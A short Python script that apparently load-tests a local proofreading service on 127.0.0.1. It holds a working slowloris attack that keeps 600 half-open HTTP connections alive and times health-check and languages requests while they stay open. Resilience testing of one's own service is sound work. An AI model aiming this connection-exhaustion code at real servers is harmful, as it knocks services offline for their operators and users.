import socket, time, json, threading
H=("127.0.0.1",18181)
def get(path, wait=10):
    s=socket.create_connection(H); s.settimeout(wait)
    s.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"%path.encode())
    out=b""
    try:
        while True:
            c=s.recv(65536)
            if not c: break
            out+=c
    except Exception as e: out+=b"<<%r>>"%e
    s.close(); return out.split(b"\r\n")[0]
# slowloris: 600 connections sending a header byte every 2 s
socks=[]
for i in range(600):
    try:
        s=socket.create_connection(H); s.sendall(b"POST /api/proofread HTTP/1.1\r\nHost: x\r\n"); socks.append(s)
    except Exception as e: print("connect fail", i, e); break
print("opened", len(socks))
t0=time.time()
print("healthcheck during slowloris:", get("/v2/healthcheck"), round(time.time()-t0,2))
for k in range(10):
    for s in socks:
        try: s.sendall(b"X-a: b\r\n")
        except Exception: pass
    time.sleep(2)
    if k%3==0: t0=time.time(); print(k, "languages:", get("/v2/languages"), round(time.time()-t0,2), flush=True)
alive=0
for s in socks:
    try: s.sendall(b"X-a: b\r\n"); s.settimeout(0.01); d=s.recv(10); alive+= (d!=b"")
    except socket.timeout: alive+=1
    except Exception: pass
print("still open after 20s:", alive)
for s in socks: s.close()
time.sleep(1)
t0=time.time(); print("after:", get("/v2/languages"), round(time.time()-t0,2))
